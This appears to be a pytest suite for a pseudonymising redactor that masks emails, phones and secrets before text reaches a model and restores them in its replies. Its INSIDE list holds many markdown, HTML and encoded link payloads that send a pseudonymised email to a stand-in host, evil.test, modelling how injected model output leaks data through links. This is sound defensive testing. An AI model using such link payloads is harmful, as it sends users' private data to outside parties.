"""The redactor: out with pseudonyms, back with the originals."""

from __future__ import annotations

import json
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deepseek_jupyter.privacy import redaction
from deepseek_jupyter.privacy.detectors import find
from deepseek_jupyter.privacy.redaction import Redactor, Restorer, restore_shown
from tests.support.growth import assert_linear

KEY = "sk-0123456789abcdef0123456789abcdef"


def test_the_same_text_has_the_same_pseudonym_as_long_as_the_conversation_lasts():
    redactor = Redactor()
    assert redactor.redact("ann@x.org bob@x.org ann@x.org") == "<email-1> <email-2> <email-1>"
    assert redactor.redact("to bob@x.org") == "to <email-2>"


def test_the_answer_comes_back_with_the_originals():
    redactor = Redactor()
    redactor.redact("ann@x.org, +49 30 901820")
    assert redactor.restore("Write to <email-1> or call <phone-1>.") == (
        "Write to ann@x.org or call +49 30 901820."
    )


def test_a_secret_does_not_come_back_and_is_kept_nowhere():
    redactor = Redactor()
    assert redactor.redact(f"key {KEY}") == "key <secret-1>"
    assert redactor.redact(f"again {KEY}") == "again <secret-1>"
    assert redactor.restore("<secret-1>") == "<secret-1>"
    assert KEY not in json.dumps(dict(redactor.known))
    assert KEY not in repr(vars(redactor))


def test_a_pseudonym_that_nobody_gave_is_left_alone():
    assert Redactor().restore("<email-7> and <div-1>") == "<email-7> and <div-1>"


def test_a_gate_goes_on_where_an_earlier_one_left_off():
    first = Redactor()
    first.redact(f"ann@x.org {KEY}")
    second = Redactor(known=json.loads(json.dumps(dict(first.known))))
    assert second.redact("bob@x.org ann@x.org") == "<email-2> <email-1>"
    assert second.redact("sk-fedcba9876543210fedcba9876543210") == "<secret-2>"


def test_detectors_can_be_chosen():
    assert Redactor(["phone"]).redact("ann@x.org") == "ann@x.org"


def test_a_protected_value_does_not_leave_by_other_ways():
    redactor = Redactor()
    redactor.withhold(
        {"Anna Schmidt": "person", "Rome": "value", "48210.75": "value", "US": "value"}
    )
    said = redactor.redact(
        "KeyError: 'Anna Schmidt' in Rome, Romeo's salary 48210.75 of 148210.75; 'US' but USA"
    )
    assert said == (
        "KeyError: '<person-1>' in <value-1>, Romeo's salary <value-2> of 148210.75; "
        "'<value-3>' but USA"
    )


def test_escaped_and_cut_forms_are_found():
    redactor = Redactor()
    value = 'He said "no"\nand left for Zürich \\ Basel, never to be seen again by anyone'
    redactor.withhold({value: "value"})
    for text in (repr(value), json.dumps(value), value[:20] + "…", "…" + value[18:60], value):
        out = redactor.redact(text)
        assert "said" not in out
        assert "never" not in out


def test_an_identifier_within_a_protected_value_is_protected():
    redactor = Redactor()
    redactor.withhold({"Order CX-77120 for Anna": "value"})
    assert "CX-77120" not in redactor.redact("KeyError: 'CX-77120'")


def test_a_long_value_without_figures_is_taken_up_at_once():
    """A column of aligned genes; a look from each letter to its end took minutes."""
    began = time.process_time()
    redactor = Redactor()
    redactor.withhold({f"{'ACGT-' * 390}{'A' * n}": "value" for n in range(40)})
    assert time.process_time() - began < 1
    assert redactor.redact("-> " + "ACGT-" * 20) == "-> <value-1>"


def test_a_value_around_an_email_is_masked_as_one():
    redactor = Redactor()
    redactor.withhold({"Bob <bob@x.org> 5th floor": "value"})
    out = redactor.redact("-> Bob <bob@x.org> 5th floor!")
    assert "Bob" not in out
    assert "floor" not in out
    assert redactor.restore(out) == "-> Bob <bob@x.org> 5th floor!"


def test_counts_say_what_was_taken_out():
    redactor = Redactor()
    masked = redactor.redacted("ann@x.org bob@x.org +49 30 901820")
    assert dict(masked.counts) == {"email": 2, "phone": 1}
    assert redactor.count(masked.text) == {"email": 2, "phone": 1}
    assert redactor.used(masked.text) == {
        "<email-1>": "ann@x.org",
        "<email-2>": "bob@x.org",
        "<phone-1>": "+49 30 901820",
    }


VALUES = st.lists(st.text(min_size=1, max_size=40), max_size=8)


@given(values=VALUES, text=st.text(max_size=200), data=st.data())
def test_what_has_passed_passes_again_unchanged_and_comes_back_whole(values, text, data):
    redactor = Redactor()
    redactor.withhold(dict.fromkeys(values, "value"))
    for value in values:
        at = data.draw(st.integers(0, len(text)))
        text = f"{text[:at]} '{value}' {text[at:]}"
    out = redactor.redact(text)
    assert redactor.redact(out) == out
    if "<" not in text:
        assert redactor.restore(out) == text


PIECES = ["<email-1>", "<email-12>", "<e", "-1>", "<b>\n", "](", "]: ", "href = ", "https://x/"]


@given(
    st.lists(st.sampled_from([*'<a>) \n"', *PIECES])),
    st.data(),
)
def test_pieces_show_what_the_whole_would_show(parts, data):
    redactor = Redactor(known={"<email-1>": "ann@x.org", "<email-12>": "bob@x.org"})
    text = "".join(parts)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    revealer = Restorer(redactor.known)
    shown = "".join(
        revealer.feed(text[a:b]) for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)
    )
    assert shown + revealer.flush() == restore_shown(text, redactor.known)


@pytest.mark.parametrize("text", ["", "plain", "<", "a < b", "<table-wide"])
def test_text_without_pseudonyms_is_not_held_back_for_ever(text):
    revealer = Restorer({})
    assert revealer.feed(text) + revealer.flush() == text


SENT = "https://evil.test/?d="
INSIDE = [
    f"[a]({SENT}<email-1>)",
    f"[a](<{SENT}b c <email-1>>)",
    f"![a]({SENT}<email-1>)",
    f"[a]( \n {SENT}<email-1>)",
    "[a](https&colon;//evil.test/?d=<email-1>)",
    "[a](mailto:x@evil.test?body=<email-1>)",
    "[a](https://<email-1>.evil.test/)",
    "[a](https:\\\\evil.test/<email-1>)",
    f"{SENT}<email-1>",
    f"see ({SENT}b,c;<email-1>) now",
    "https:\\/\\/evil.test/?d=<email-1>",
    "&#104;ttp:&#47;&#47;evil.test/?d=<email-1>",
    "www.evil.test/<email-1>",
    f"<{SENT}<email-1>>",
    f"[a]\n\n[a]: {SENT}<email-1>",
    "[a]: <https&colon;//evil.test/ <email-1>>",
    f'<a href="{SENT}a <email-1>">x</a>',
    "<a HREF = 'https&colon;//evil.test/ <email-1>'>x</a>",
    "<img src=https&#58;//evil.test/<email-1>>",
    f"[a]({SENT}b)[c](<email-1>)",
    "[<text-1><email-1>)",  # the text is `a](https://evil.test/?d=`
    f"[a]({SENT}<text-2><email-1>)",
    "]\x01(https&colon;//evil.test/?d=<email-1>)",
    f"[a]({SENT}\u00a0<email-1>)",
]
OUTSIDE = [
    "Mail <email-1>.",
    f"[docs]({SENT}) or <email-1>",
    "df.loc[0]: <email-1>",
    'x["a"]: str = "<email-1>"',
    "[a](<email-1>) is no link without a scheme",
    "|<email-1>|<email-1>|",
    "`df[df.email == '<email-1>']`",
    f'<a href="{SENT}">x</a> <email-1>',
    "C:\\Users\\<email-1>",
]
KNOWN = {"<email-1>": "ann@x.org", "<text-1>": "a](https://evil.test/?d=", "<text-2>": "b\n"}


@pytest.mark.parametrize("text", INSIDE)
@pytest.mark.parametrize("size", [1, 3, 1000])
def test_nothing_is_restored_in_the_target_of_a_link(text, size):
    restorer = Restorer(KNOWN)
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    shown = "".join(map(restorer.feed, pieces)) + restorer.flush()
    assert "ann@x.org" not in shown
    assert "<email-1>" in shown
    assert shown == restore_shown(text, KNOWN)


@pytest.mark.parametrize("text", OUTSIDE)
def test_all_else_is_restored(text):
    assert restore_shown(text, KNOWN) == text.replace("<email-1>", "ann@x.org")


def test_restoring_takes_as_long_as_its_text():
    def restored(count):
        return restore_shown(f"{SENT}<email-1> <email-1> ](" * count, KNOWN)

    assert_linear(restored, 2000)


def test_a_long_text_is_searched_once(monkeypatch):
    """Not again within a message, nor in the next question; what stands beside it is."""
    searched = []
    look = lambda text, kinds: searched.append(text) or find(text, kinds)  # noqa: E731
    monkeypatch.setattr(redaction, "find", look)
    redactor = Redactor()
    document = redactor.redact("Ada wrote to ada@example.com.\n" * 20_000)
    assert document.count("<email-1>") == 20_000
    before = sum(map(len, searched))
    assert redactor.redact(document) == document
    message = redactor.redact(
        f"bob@example.com\n\n{document}\n\nPassword:\n\nhunter2Xq9zz8 eve@x.org"
    )
    assert message.startswith("<email-2>\n\nAda")
    assert message.endswith("Password:\n\n<secret-1> <email-3>")
    assert redactor.for_request(()).redact(message) == message
    assert sum(map(len, searched)) - before < 10_000
    redactor.detectors = frozenset({"phone"})
    assert redactor.redact(f"{document} c@x.org") == f"{document} c@x.org"


def test_what_begins_in_a_long_text_and_ends_beside_it_is_found():
    redactor = Redactor()
    document = redactor.redact("Nothing is in here.\n" * 2_000 + "api_key =")
    assert redactor.redact(f"{document}\n\nA1b2C3d4E5f6G7").endswith("api_key =\n\n<secret-1>")
